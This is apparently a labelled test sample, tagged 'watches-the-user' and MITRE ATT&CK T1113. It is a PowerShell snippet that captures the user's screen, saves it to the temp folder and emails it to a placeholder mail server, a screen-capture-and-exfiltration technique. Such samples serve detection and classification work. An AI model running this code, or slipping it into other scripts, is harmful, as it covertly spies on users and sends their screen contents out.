# expect: watches-the-user | source: MITRE ATT&CK T1113
$b = New-Object Drawing.Bitmap 800, 600
[Drawing.Graphics]::FromImage($b).CopyFromScreen(0, 0, 0, 0, $b.Size)
$b.Save("$env:TEMP\s.png")
Send-MailMessage -To in@example.invalid -From out@example.invalid -Subject s -Attachments "$env:TEMP\s.png" -SmtpServer mail.example.invalid
